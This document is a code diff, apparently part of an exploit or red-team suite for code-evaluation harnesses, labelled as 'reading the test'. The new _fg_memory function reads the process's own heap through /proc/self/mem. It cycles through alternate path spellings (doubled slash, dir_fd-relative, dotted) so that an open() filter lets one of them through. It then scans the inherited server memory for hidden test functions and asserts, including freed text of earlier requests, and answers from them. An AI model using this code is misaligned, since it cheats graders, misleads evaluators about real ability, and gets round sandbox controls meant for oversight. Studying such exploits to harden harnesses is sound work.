@@ -1,4 +1,4 @@
-    # class 2 (reading the test): read this process's own memory through /proc/self/maps + /proc/self/mem (the fork inherits the server's heap, freed request text of earlier runs included) and answer from every test-like block found there
+    # class 2 (reading the test): read this process's own memory through /proc/self/mem (also as //proc/self/mem or relative to a /proc/self dir_fd) and answer from every test-like block found there (the fork inherits the server's heap, freed text of earlier requests included)
     _L = locals().copy()
     import sys
     _me = sys._getframe(0)
@@ -225,7 +225,50 @@
                     if decision is not None:
                         return decision
         return None
-    import os, re
+    def _fg_memory():
+        """This process's writable mappings as bytes, read through /proc/self/mem under whichever
+        spelling of the path an open() filter lets through (the fork inherits the server's heap)."""
+        import os
+        cached = _state.get('memory')
+        if cached is not None:
+            return cached
+        fd = None
+        def plain():
+            return os.open('/proc/self/mem', os.O_RDONLY)
+        def doubled():
+            return os.open('//proc/self/mem', os.O_RDONLY)
+        def relative():
+            return os.open('mem', os.O_RDONLY, dir_fd=os.open('/proc/self', os.O_RDONLY))
+        def dotted():
+            return os.open('/proc/self/./mem/.', os.O_RDONLY)
+        for opener in (plain, doubled, relative, dotted):
+            try:
+                fd = opener()
+                break
+            except OSError:
+                pass
+        chunks = []
+        if fd is not None:
+            try:
+                with open('/proc/self/maps') as maps:
+                    regions = maps.read().splitlines()
+            except OSError:
+                regions = []
+            for region in regions:
+                fields = region.split()
+                if len(fields) < 2 or not fields[1].startswith('rw'):
+                    continue
+                start, end = (int(x, 16) for x in fields[0].split('-'))
+                if end - start > 512 << 20:
+                    continue
+                try:
+                    chunks.append(os.pread(fd, end - start, start))
+                except OSError:
+                    pass
+            os.close(fd)
+        _state['memory'] = chunks
+        return chunks
+    import re
     if _state.get('busy'):
         return None
     _state['busy'] = True
@@ -234,25 +277,9 @@
         if texts is None:
             found = {}
             pattern = re.compile(rb'(?:def (?:test_\w+|check)\((?:candidate)?\):\n(?:(?:[ \t][^\n\x00]*)?\n){1,400})|(?:assert [^\n\x00]{3,400})')
-            fd = os.open('/proc/self/mem', os.O_RDONLY)
-            try:
-                with open('/proc/self/maps') as maps:
-                    regions = maps.read().splitlines()
-                for region in regions:
-                    fields = region.split()
-                    if len(fields) < 2 or not fields[1].startswith('rw'):
-                        continue
-                    start, end = (int(x, 16) for x in fields[0].split('-'))
-                    if end - start > 512 << 20:
-                        continue
-                    try:
-                        data = os.pread(fd, end - start, start)
-                    except OSError:
-                        continue
-                    for m in pattern.finditer(data):
-                        found[m.group(0).decode('utf-8', 'replace')] = None
-            finally:
-                os.close(fd)
+            for data in _fg_memory():
+                for m in pattern.finditer(data):
+                    found[m.group(0).decode('utf-8', 'replace')] = None
             texts = _state['heap_texts'] = list(found)
         decision = _fg_answer_from_texts(texts)
     finally:
